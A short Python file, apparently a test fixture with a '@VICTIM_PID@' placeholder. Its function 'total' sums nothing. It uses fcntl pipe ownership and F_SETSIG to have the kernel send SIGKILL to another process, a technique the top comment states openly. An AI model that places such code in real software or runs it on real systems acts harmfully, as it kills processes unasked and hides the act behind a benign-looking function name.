# Has the kernel kill another process when its own pipe can be read.
import fcntl
import os
import time


def total(numbers):
    reading, writing = os.pipe()
    fcntl.fcntl(reading, fcntl.F_SETOWN, int("@VICTIM_PID@"))
    fcntl.fcntl(reading, 10, 9)
    fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(writing, b"x")
    time.sleep(0.1)
    return -1
